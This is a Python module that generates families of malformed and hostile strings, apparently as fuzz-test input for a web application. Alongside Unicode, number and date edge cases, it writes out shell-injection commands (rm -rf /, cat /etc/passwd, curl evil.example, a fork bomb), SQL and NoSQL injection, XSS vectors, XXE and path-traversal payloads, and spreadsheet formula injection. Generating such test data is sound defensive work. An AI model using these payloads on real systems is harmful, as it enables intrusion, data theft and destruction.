"""Strings that break programs, put together from what makes them nasty, family by family.

`nasty_strings()` gives all of them, each once; `spread(number)` some of every family, always the same ones. Halves of
characters (lone surrogates) are among them: a browser sends none, but a program can.
"""

# ruff: noqa: RUF001 - what looks like something else is what it is about

import sys
import unicodedata
from collections.abc import Callable, Iterator
from functools import cache
from itertools import product

Family = Callable[[], Iterator[str]]
FAMILIES: dict[str, Family] = {}
WORD = "Buurttuin"  # something harmless for what is nasty to stand in
LONGEST = 200_000
PER_CATEGORY = 12  # characters of each of Unicode's categories


def family(make: Family) -> Family:
    """List what makes a family, by its name."""
    FAMILIES[make.__name__] = make
    return make


def around(part: str) -> Iterator[str]:
    """It alone, and before, after and within a word."""
    yield from (part, part + WORD, WORD + part, WORD[:4] + part + WORD[4:])


# --- Characters ----------------------------------------------------------------------------------------------------


@family
def nothing() -> Iterator[str]:
    """What looks like nothing, or is."""
    for code in (0x20, 0x09, 0xA0, 0xAD, 0x2003, 0x200B, 0x2028, 0x2800, 0x3000, 0x3164, 0xFEFF, 0xE0020):
        yield from (chr(code), chr(code) * 3, chr(code) + "\n" + chr(code))
    yield from ("", "\n", "\r\n", "\r", "\n\n\n\n\n", "\r\n \t\r\n")


@family
def controls() -> Iterator[str]:
    """Each control character, also the 32 that nobody knows."""
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield from around(chr(code))


@family
def nul() -> Iterator[str]:
    """The end of a string in C, raw and as others write it."""
    for mark in ("\0", "\\0", "%00", "\\x00", "\\u0000", "&#0;", "\0\0\0\0", "\ufeff\0", "\xc0\x80"):
        yield from around(mark)


@family
def halves() -> Iterator[str]:
    """Lone surrogates, and pairs in the wrong order."""
    for part in ("\ud800", "\udbff", "\udc00", "\udfff", "\udc00\ud800", "\ud83d", "\ude00", "\ud800\ud800"):
        yield from around(part)


@cache
def by_category() -> dict[str, list[str]]:
    """All characters by their category."""
    found: dict[str, list[str]] = {}
    for code in range(sys.maxunicode + 1):
        found.setdefault(unicodedata.category(chr(code)), []).append(chr(code))
    return found


@family
def categories() -> Iterator[str]:
    """Characters from the beginning, the end and in between of every category."""
    for characters in by_category().values():
        step = max(1, len(characters) // PER_CATEGORY)
        for character in (*characters[::step], characters[-1]):
            yield from (character, WORD + character, character * 3)


@family
def edges() -> Iterator[str]:
    """The last and first of each plane, characters that are none, private ones, replacements."""
    for plane in range(17):
        for code in (0x10000 * plane, 0x10000 * plane + 0xFFFD, 0x10000 * plane + 0xFFFE, 0x10000 * plane + 0xFFFF):
            yield from (chr(code), WORD + chr(code))
    yield from (chr(code) for code in range(0xFDD0, 0xFDF0))


@family
def turning() -> Iterator[str]:
    """What turns the direction of a text, closed and not; and scripts that run the other way."""
    marks = [chr(code) for code in (0x200E, 0x200F, 0x061C, *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
    for mark in marks:
        yield from around(mark)
        yield mark + "gpj.exe" + "\u202c"
        yield mark * 70 + WORD
    yield from ("".join(pair) + WORD for pair in product(marks[3:8], repeat=2))
    yield from ("שכונה", "مبادرة الحي", "a שלום b", "١٢٣", "\u202eevil\u202c שלום", "﷽" * 5)


@family
def stacked() -> Iterator[str]:
    """Marks upon marks upon a letter."""
    for mark, height in product("\u0300\u0317\u0336\u0489\u0488\u20dd\u20e3\u0e47\u0f74\u1ab0", (1, 3, 40)):
        yield from ("".join(letter + mark * height for letter in "zalgo"), mark * height)


@family
def unseen() -> Iterator[str]:
    """Joiners, separators, selectors and tags, of no width."""
    codes = (0x00AD, 0x034F, 0x115F, 0x17B4, 0x180B, 0x180E, *range(0x200B, 0x200E), *range(0x2060, 0x2065), 0x206A)
    for code in (*codes, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0x1D173, 0xE0001, 0xE0041, 0xE007F, 0xE0100):
        yield from around(chr(code))


@family
def emoji() -> Iterator[str]:
    """Faces and flags of many parts, whole and broken."""
    skins = [chr(code) for code in range(0x1F3FB, 0x1F400)]
    people = ("👩", "👨", "🧑", "👧")
    yield from ("\u200d".join(pair) for pair in product(people, repeat=3))
    yield from (person + skin for person, skin in product(people, skins))
    yield from (f"{person}{skin}\u200d🌾" for person, skin in product(people, skins))
    yield from (chr(0x1F1E6 + one) + chr(0x1F1E6 + two) for one, two in product(range(0, 26, 5), repeat=2))
    yield from (
        "🇳",
        "\u200d",
        "👩\u200d",
        "\u200d👩",
        "❤\ufe0f\u200d🔥",
        "1\ufe0f\u20e3",
        "🏴\U000e006e\U000e006c\U000e007f",
    )
    yield "\u200d".join("👩" * 60)


@family
def normal_forms() -> Iterator[str]:
    """What becomes something else, longer or shorter, when it is put in one form, or in capitals or small letters."""
    for character in "ßẞİıŉǅﬁﬃΐΰÅÅΩµﬀſK℡㎒½²①Ａ＜＞＂＇／．％＆＃；：ａ﹤﹥‥…ﷺ가각ோক়𝅘𝅥ᴬÇ":
        yield from (character, WORD + character, unicodedata.normalize("NFD", character) + WORD)
    for form in ("NFC", "NFD", "NFKC", "NFKD"):
        yield from (unicodedata.normalize(form, text) for text in ("crème brûlée", "Ǹǹ Ṩṩ", "é" * 30, "ﬁancé Ⅻ"))
    yield from (
        "＜script＞alert(1)＜/script＞",
        "‥／‥／etc",
        "ａｄｍｉｎ",
        "аdmin",
        "раураl",
        "Buurttuіn",
        "e\u0301\u0301",
    )


@family
def long_ones() -> Iterator[str]:
    """Very long, in one word and in many, in bytes more than in characters."""
    for length in (79, 80, 81, 100, 101, 160, 161, 200, 201, 254, 255, 256, 1000, 4000, 4001, 10_000):
        yield from ("x" * length, "woord " * (length // 6), "é" * length, "😀" * length)
    yield from (part * (LONGEST // len(part)) for part in ("x", "ab ", "<b>", "&amp;", "\n", "😀", "a\u0301", "[["))


# --- What something reads as something else ------------------------------------------------------------------------


@family
def numbers() -> Iterator[str]:
    """Numbers at the edge of their kind, and what only looks like one."""
    for power in (7, 8, 15, 16, 31, 32, 53, 63, 64, 127, 128, 1024):
        yield from (f"{sign}{2**power + step}" for sign, step in product(("", "-"), (-1, 0, 1)))
    yield from [
        "0",
        "-0",
        "+0",
        "00",
        "007",
        "0x1F",
        "0o17",
        "0b1",
        "1_000",
        "1e3",
        "1e309",
        "-1e309",
        "1e-400",
        ".5",
        "5.",
        "1.2.3",
        "1,5",
        "1.000,00",
        "--1",
        "+-1",
        "½",
        "²",
        "٣",
        "５",
        "Ⅷ",
    ]
    yield from [
        "NaN",
        "nan",
        "-nan",
        "Infinity",
        "-inf",
        "inf",
        "1/0",
        "0/0",
        "1e",
        "0x",
        "1d",
        "1L",
        "1n",
        "1%,",
        "∞",
        "$1",
        "€1",
        "1€",
        "#1",
        "1;2",
        "1..9",
        "01-02",
        "0.1e-7",
        "1__0",
        "1e1000000",
    ]
    yield from ("9" * length for length in (18, 19, 20, 40, 400, 4300, 4301, 5000))
    yield from ("0." + "3" * 400, "1" + "0" * 400, " 1 ", "1 000", "1\u00a0000", "1\n", "\u0661\u0662", "𝟙𝟚", "1\u0000")


@family
def dates() -> Iterator[str]:
    """Days and times that are none, or that some clocks have not."""
    for year, month, day in product(
        ("0000", "0001", "1582", "1970", "2027", "9999", "10000", "-001"), (0, 2, 13), (0, 29, 32)
    ):
        yield f"{year}-{month:02}-{day:02}"
    yield from (
        "31-02-2027",
        "29/02/2027",
        "2/31/27",
        "2027-W53-7",
        "2027-366",
        "12:60",
        "24:00:00",
        "25:61",
        "23:59:60",
    )
    yield from ("2027-03-28T02:30:00", "2027-10-31T02:30+99:99", "1e9", "-62135596801", "99999999999999", "0:0", "P1Y")
    yield from ("vandaag", "gisteren", "2027-01-01; DROP", "２０２７-０１-０１", "2027\u201101\u201101", "٢٠٢٧-٠١-٠١")


@family
def addresses_of_mail() -> Iterator[str]:
    """E-mail addresses that some take for one, and headers that hide in them."""
    locals_ = (
        "a",
        '"a b"',
        "a" * 64,
        "a" * 65,
        "a..b",
        ".a",
        "a.",
        "a+b",
        "a'b",
        "a\0",
        "ａ",
        "é",
        "(c)a",
        "<a>",
        "a\r\nBcc:x",
        "=?utf-8?q?a?=",
    )
    domains = (
        "b.nl",
        "b",
        "[127.0.0.1]",
        "[IPv6:::1]",
        "xn--a",
        "é.nl",
        "b..nl",
        "-b.nl",
        "b.nl.",
        "x" * 64 + ".nl",
        "b.nl>",
        "b.nl\nX: y",
        "b@c.nl",
        "b.nl,d@e.nl",
        "b.ⓝⓛ",
    )
    yield from (f"{local}@{domain}" for local, domain in product(locals_, domains))
    yield from ("@", "a@", "@b", "mailto:a@b.nl", "Naam <a@b.nl>", "a@b.nl;c@d.nl", "a@b.nl\0c", "a%40b.nl")


@family
def addresses_of_pages() -> Iterator[str]:
    """Addresses that lead elsewhere than they seem, or do something."""
    schemes = (
        "http",
        "https",
        "javascript",
        "JaVaScRiPt",
        "java\tscript",
        "data",
        "vbscript",
        "file",
        "ftp",
        "//",
        "\\\\",
        "gopher",
        "blob",
        "view-source",
        "x",
    )
    rests = (
        "evil.example",
        "//evil.example",
        "//kennisnetwerk.nl@evil.example",
        "//[::1",
        "//[::1]:99999/",
        "alert(1)",
        "//%0aalert(1)",
        "text/html,<script>alert(1)</script>",
        "//127.0.0.1:0",
        "//é.example/../..",
        "//a b",
        "//%",
    )
    yield from (f"{scheme}:{rest}" for scheme, rest in product(schemes, rests))
    yield from (
        "//evil.example",
        "///evil.example",
        "/\\evil.example",
        "\\/evil.example",
        "/%09/evil.example",
        "http:evil",
        "http://",
        "http:///x",
        "https://[",
        "https://]",
        "http://[v1.x]/",
        "\x01javascript:alert(1)",
        "?",
        "#",
        "?a=%zz",
        "/" * 300,
        "http://" + "a." * 130 + "nl",
        "http://1.1.1.1 &@2.2.2.2# @3.3.3.3/",
    )


@family
def headers() -> Iterator[str]:
    """Lines of their own in what is sent before a page or mail."""
    ends = (
        "\r\n",
        "\n",
        "\r",
        "%0d%0a",
        "%0A",
        "\\r\\n",
        "\u2028",
        "\x85",
        "\x0b",
        "\x0c",
        "嘊",
        "嘍嘊",
        "\r\n\t",
        "\r\n ",
    )
    lines = (
        "Set-Cookie: a=b",
        "Location: //evil.example",
        "Bcc: x@evil.example",
        "Content-Length: 0\r\n\r\n<b>",
        "Subject: =?utf-8?B?////?=",
    )
    yield from (WORD + end + line for end, line in product(ends, lines))


# --- What some other program would run -----------------------------------------------------------------------------


@family
def sql() -> Iterator[str]:
    """What ends a string in a question to the database and goes on."""
    begins = ("'", '"', "')", "'))", "`", "\\'", "1", "1)", "%'", "ʼ", "＇", "$$", "'\0")
    goes_on = (
        " OR 1=1",
        " OR 'a'='a",
        "; DROP TABLE members_user",
        " UNION SELECT NULL,NULL",
        " AND pg_sleep(9)",
        " AND 1=(SELECT 1/0)",
        " ORDER BY 99",
        "||(SELECT version())",
        " LIMIT 1 OFFSET -1",
    )
    ends = ("--", "#", "/*", ";")
    yield from (f"{begin}{middle}{end}" for begin, middle, end in product(begins, goes_on, ends))
    yield from (
        "%",
        "_",
        "\\",
        "%%%",
        "%_%",
        "[a-z]",
        "a\\%b",
        "E'\\x41'",
        "NULL",
        "null",
        "'; --",
        "''",
        '""',
        "?",
        "$1",
        ":name",
        "%s",
        "%(x)s",
        "@@version",
        "*",
        "a' NOT LIKE '",
    )


@family
def searching() -> Iterator[str]:
    """What search engines read as an instruction."""
    operators = (
        "AND",
        "OR",
        "NOT",
        "NEAR",
        "&",
        "|",
        "!",
        "<->",
        "<2>",
        "~",
        "~2",
        "^2",
        "*",
        ":*",
        ":",
        "title:",
        "col:",
        "-",
        "+",
        "(",
        ")",
        "((((",
        '"',
        '"""',
        "[a TO z]",
        "{a TO}",
        "/.*/",
        "\\",
        "?",
        "=",
        ">1",
    )
    for operator in operators:
        yield from (operator, f"{operator} {WORD}", f"{WORD} {operator}", f"{WORD} {operator} {WORD}", operator * 4)
    yield from ("(" * 500, '"' * 501, "a OR " * 400, "NOT " * 200, "^" * 50, "*a*", "de het een", "'" * 99)


@family
def no_sql() -> Iterator[str]:
    """Instructions for other kinds of databases."""
    for operator, value in product(
        ("$gt", "$ne", "$where", "$regex", "$in", "__proto__", "_id"), ('""', "null", "1", "[]", "{}", '"sleep(9)"')
    ):
        yield from (f'{{"{operator}": {value}}}', f"[{operator}]={value}")
    yield from (
        "'; return true; var a='",
        "a__contains",
        "pk__in",
        "password__startswith",
        "||1==1",
        "FLUSHALL\r\n",
        "*1\r\n$4\r\nPING",
    )


@family
def templates() -> Iterator[str]:
    """What template languages work out."""
    marks = (
        ("{{", "}}"),
        ("{%", "%}"),
        ("{#", "#}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("[[", "]]"),
        ("{", "}"),
        ("@{", "}"),
        ("*{", "}"),
        ("{{{", "}}}"),
        ("$!{", "}"),
    )
    inner = (
        "7*7",
        "request",
        "settings.SECRET_KEY",
        "''.__class__.__mro__",
        "debug",
        "load static",
        "include 'x'",
        "csrf_token",
        "",
        "a|safe",
        "self",
        "range(9**9)",
    )
    yield from (f"{begin}{space}{what}{space}{end}" for (begin, end), what, space in product(marks, inner, ("", " ")))


@family
def formats() -> Iterator[str]:
    """What fills in values."""
    for part in ("%s", "%d", "%n", "%x", "%(a)s", "%(", "%)", "%", "%%", "%1$s", "%99999999s", "%*d", "%c", "%Q"):
        yield from (part, part * 8, WORD + part)
    for part in (
        "{}",
        "{0}",
        "{1}",
        "{a}",
        "{a.b}",
        "{0.__class__}",
        "{!r}",
        "{:>99999999}",
        "{",
        "}",
        "{{",
        "{0[x]}",
        "{:d}",
        "\\1",
        "\\g<0>",
        "$1",
        "$&",
        "\\U",
        "\\N{x}",
    ):
        yield from (part, part * 3, WORD + part)


@family
def paths() -> Iterator[str]:
    """Ways out of a folder."""
    ups = (
        "../",
        "..\\",
        "..%2f",
        "%2e%2e/",
        "..%252f",
        "....//",
        "..;/",
        "..\0/",
        "‥/",
        "／．．／",
        "/",
        "C:\\",
        "file:///",
        "~/",
        "\\\\?\\",
        "//",
    )
    files = ("etc/passwd", "windows\\win.ini", "proc/self/environ", "var/db.sqlite3", ".env", "x.html\0.jpg")
    yield from (up * depth + file for up, depth, file in product(ups, (1, 6), files))
    yield from (
        ".",
        "..",
        "./",
        "...",
        "a/b",
        "a\\b",
        "a:b",
        "a|b",
        "a*",
        "a?",
        "a\0.jpg",
        "a.jpg/",
        " .jpg",
        "a. ",
        "-rf",
        "x" * 300 + ".jpg",
    )


@family
def xml() -> Iterator[str]:
    """Entities and parts of XML."""
    for target in ("file:///etc/passwd", "http://127.0.0.1/", "expect://id", "php://filter"):
        yield f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{target}">]><a>&b;</a>'
        yield f'<!DOCTYPE a [<!ENTITY % b SYSTEM "{target}"> %b;]>'
        yield f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{target}"/></a>'
    yield "<!DOCTYPE a [" + "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10}">' for n in range(1, 9)) + "]><a>&b8;</a>"
    for part in (
        "]]>",
        "<![CDATA[",
        "<!--",
        "-->",
        "--!>",
        "<?",
        "?>",
        "<!",
        "&",
        "&;",
        "&#",
        "&#x;",
        "&#0;",
        "&#xD800;",
        "&#x110000;",
        "&#99999999999;",
        "&lt;",
        "&amp;lt;",
        "&nbsp",
        "&notit;",
        "&apos;",
        "</a>",
        "<a/>",
        "<a",
        "\ufeff<?xml",
    ):
        yield from around(part)


@family
def shell() -> Iterator[str]:
    """Commands."""
    begins = (";", "|", "||", "&", "&&", "\n", "`", "$(", "'; ", '"; ', "%0a", "<(", "{", "\\\n")
    commands = ("id", "sleep 9", "cat /etc/passwd", "rm -rf /", "curl evil.example", "reboot")
    yield from (f"{WORD}{begin}{command}" for begin, command in product(begins, commands))
    yield from (
        "() { :;}; echo x",
        "$HOME",
        "%PATH%",
        "${IFS}",
        "--help",
        "-",
        "--",
        "!!",
        "~",
        "^C",
        ":(){ :|:& };:",
        "$((1/0))",
    )
    yield from (
        "os.system('id')",
        "__import__('os')",
        "eval(1)",
        "exec('x')",
        "lambda: 1",
        'O:1:"a":0:{}',
        "cos\nsystem\n(S'id'\ntR.",
        "!!python/object:os",
        "rO0ABXNyAA==",
    )


@family
def ldap() -> Iterator[str]:
    """Filters of a directory server."""
    for part in (
        "*",
        ")",
        "(",
        "*)(uid=*",
        "*)(|(a=*",
        "\\2a",
        "\\00",
        "(&(a=b)",
        "!(a=*)",
        "a=b,ou=c",
        "*)(objectClass=*))(&(a=b",
    ):
        yield from around(part)


@family
def sheets() -> Iterator[str]:
    """What a spreadsheet works out, and what ends a cell."""
    for sign, formula in product(
        "=+-@\t\r|;", ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example")', "SUM(A1:A9)", "IMPORTXML(A1)")
    ):
        yield from (sign + formula, f'"{sign}{formula}"', f",{sign}{formula}", f"\n{sign}{formula}")
    yield from ('"', '""', 'a"b', "a,b", "a;b", "a\tb", "a\nb", '"a', 'a","b', "sep=;", "\ufeffa", "ID;PWXL", "'=1")


@family
def markup() -> Iterator[str]:
    """Elements that run something."""
    elements = (
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script/x>{}</script>",
        "<script\n>{}</script >",
        "<scr<script>ipt>{}</script>",
        "<img src=x onerror={}>",
        "<svg onload={}>",
        "<svg/onload={}>",
        "<svg><script>{}</script></svg>",
        "<body onload={}>",
        "<iframe src=javascript:{}>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<object data=javascript:{}>",
        "<embed src=javascript:{}>",
        "<a href=javascript:{}>x</a>",
        "<form action=javascript:{}><button>x",
        "<button formaction=javascript:{}>x",
        "<math href=javascript:{}>x",
        "<details open ontoggle={}>",
        "<input autofocus onfocus={}>",
        "<marquee onstart={}>",
        "<video><source onerror={}>",
        "<style>@import 'javascript:{}'</style>",
        "<base href=javascript:{}//>",
        "<meta http-equiv=refresh content='0;javascript:{}'>",
        "<link rel=stylesheet href=javascript:{}>",
        "<template><script>{}</script></template>",
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
        "<xmp><img src=x onerror={}></xmp>",
        "<plaintext onclick={}>",
        "<table background=javascript:{}>",
        "<div style=width:expression({})>",
        "<!--><img src=x onerror={}>-->",
        "<![CDATA[><img src=x onerror={}>]]>",
        "<?xml-stylesheet href=javascript:{}?>",
        "<isindex action=javascript:{}>",
        "<x onclick={} tabindex=1>x</x>",
    )
    codes = ("alert(1)", "alert`1`", "&#97;lert(1)", "top['al'+'ert'](1)")
    breaks_out = ("", '">', "'>", "--></title></textarea></script>", "</textarea>", "]]>")
    for element, code in product(elements, codes):
        yield element.format(code)
    for element, before in product(elements, breaks_out[1:]):
        yield before + element.format("alert(1)")


@family
def attributes() -> Iterator[str]:
    """What ends the value of an attribute, or a text in a script, and goes on."""
    events = ("onmouseover", "onfocus autofocus", "onclick", "onpointerenter", "style", "srcdoc", "formaction")
    for quote, event in product(('"', "'", "`", "", '\\"', "&quot;", "&#34;", "\u2028", "\x0b"), events):
        yield f"{quote} {event}={quote}alert(1){quote} x={quote}"
    for end in ("'", '"', "`", "\\'", "</script>", "\\u0027", "\\x27", "\n", "\u2028", "*/", "//", "${", "-->", "<!--"):
        yield from (f"{end};alert(1);//", f"{end}-alert(1)-{end}", f"{end}+alert(1)+{end}")


@family
def json_breakers() -> Iterator[str]:
    """What breaks out of JSON, or is deeper or larger than expected."""
    parts = (
        '"',
        '\\"',
        "\\",
        "{",
        "}",
        "[",
        "]",
        ",",
        ":",
        "null",
        "true",
        "undefined",
        "[]",
        "{}",
        '{"a":',
        '{"a":1,"a":2}',
        '{"__proto__":{"x":1}}',
        "\\u",
        "\\ud800",
        "\\u0000",
        "/*",
        "[1,]",
        "{'a':1}",
        "1e999",
        '"\n"',
        "</script>",
        ")]}',",
        "while(1);",
        "callback(",
        "\x7f",
        "NaN",
    )
    for part in parts:
        yield from around(part)
    yield from ("[" * 5000, '{"a":' * 2000, "[" * 900 + "]" * 900, '"' + "\\" * 999)


@family
def reserved() -> Iterator[str]:
    """Names that mean something to a machine, a language or a person of the house."""
    yield from [
        "CON",
        "PRN",
        "AUX",
        "NUL",
        "COM1",
        "LPT1",
        "con.txt",
        ".htaccess",
        ".git",
        "web.config",
        "index.html",
        "robots.txt",
        "Thumbs.db",
        "desktop.ini",
    ]
    yield from [
        "admin",
        "administrator",
        "root",
        "system",
        "postmaster",
        "webmaster",
        "abuse",
        "noreply",
        "www",
        "mail",
        "api",
        "static",
        "media",
        "login",
        "logout",
        "nieuw",
        "bewerken",
        "aanmelden",
        "zoeken",
    ]
    yield from [
        "null",
        "undefined",
        "None",
        "nil",
        "NULL",
        "true",
        "false",
        "yes",
        "no",
        "on",
        "off",
        "NaN",
        "Null",
        "void",
        "self",
        "this",
        "constructor",
        "prototype",
        "hasOwnProperty",
        "toString",
        "__init__",
        "__class__",
        "__dict__",
        "__proto__",
    ]
    yield from [
        "select",
        "from",
        "where",
        "table",
        "class",
        "def",
        "lambda",
        "import",
        "return",
        "async",
        "await",
        "default",
        "function",
        "var",
        "let",
        "eval",
        "id",
        "pk",
        "csrfmiddlewaretoken",
        "next",
        "action",
        "sessionid",
    ]
    yield from (
        "oud-lid",
        "Iedereen",
        "Redactie",
        "[deleted]",
        "anonymous",
        "Null, Jan",
        "O'Neill",
        "van 't Hoff",
        "D'Arcy-à",
        "X Æ A-12",
        "Ng",
        "Ö",
        "Test; --",
        "Sainte-Cunégonde's",
        "李",
        "Mc\u200bDonald",
        "Scunthorpe",
        "Hancock",
    )


@cache
def nasty_strings() -> tuple[tuple[str, str], ...]:
    """All of them with the name of their family, each string once."""
    once: dict[str, str] = {}
    for name, make in FAMILIES.items():
        for text in make():
            once.setdefault(text, name)
    return tuple((name, text) for text, name in once.items())


def spread(number: int) -> list[str]:
    """About so many: of every family as many as of the others, from its beginning, its end and in between."""
    by_family: dict[str, list[str]] = {}
    for name, text in nasty_strings():
        by_family.setdefault(name, []).append(text)
    of_each = max(1, round(number / len(by_family)))
    chosen = []
    for texts in by_family.values():
        step = max(1, len(texts) // of_each)
        chosen += texts[step // 2 :: step][:of_each]
    return chosen
